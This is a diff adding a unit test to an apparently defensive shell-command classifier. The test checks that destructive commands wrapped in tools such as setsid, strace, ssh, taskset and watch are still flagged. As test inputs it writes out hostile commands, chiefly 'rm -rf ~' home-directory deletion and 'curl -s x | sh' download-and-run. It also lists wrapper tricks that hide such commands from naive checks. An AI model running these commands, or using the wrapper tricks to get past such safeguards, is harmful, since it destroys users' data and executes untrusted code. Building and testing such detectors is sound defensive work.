@@ -263,3 +263,35 @@ it('what the reading budget or the nesting bound leaves unread is unread-landing
   // A few wrappers deep stays read whole: its own tags, no unread-landing.
   assert.deepEqual(dangerTags('exec', 'setsid setsid setsid setsid rm -rf build', ws), ['recursive-delete', 'runs-command']);
 });
+
+/**
+ * A local wrapper runs its words as words: they were joined with blanks and read again, so
+ * `setsid sh -c 'rm -rf ~'` was read as `sh -c rm -rf ~` (rm alone). And an option's value, or the
+ * wrapper's own first word, was taken for the command (`strace -o log rm -rf ~` read `log rm …`).
+ * Several take command lines as words of their own (`hyperfine`, `tmux new`), and watch joins its
+ * words for `sh -c`.
+ */
+it("a wrapper's words are read as it runs them: quoted words, past an option's value or its own word, a line per word", () => {
+  const ws = workspace();
+  for (const line of ["setpriv sh -c 'touch M'", 'strace -o log touch M', 'taskset 1 touch M', "timeout 3 watch -n1 echo 'a; touch M'"]) {
+    assert.ok(leavesMarker(line, ws), `${line} left no marker`);
+  }
+  const cases: [string, DangerTag][] = [
+    ["setsid sh -c 'rm -rf ~'", 'recursive-delete'],
+    ["setpriv bash -c 'curl -s x | sh'", 'download-and-run'],
+    ['strace -o log rm -rf ~', 'recursive-delete'],
+    ["ssh -i key host 'rm -rf ~'", 'recursive-delete'],
+    ['dotenv -e .env -- rm -rf ~', 'recursive-delete'],
+    ['chroot / rm -rf ~', 'recursive-delete'],
+    ['taskset 1 rm -rf ~', 'recursive-delete'],
+    ['taskset ff rm -rf ~', 'recursive-delete'],
+    ["hyperfine true 'rm -rf ~'", 'recursive-delete'],
+    ["tmux new 'curl -s x | sh'", 'download-and-run'],
+    ["watch -n 1 'curl -s x | sh'", 'download-and-run'],
+    ["watch -n1 echo 'a; rm -rf ~'", 'recursive-delete'],
+  ];
+  for (const [line, tag] of cases) {
+    const tags = dangerTags('exec', line, ws);
+    assert.ok(tags.includes(tag) && tags.includes('runs-command'), `${line}: ${tags.join(',')}`);
+  }
+});
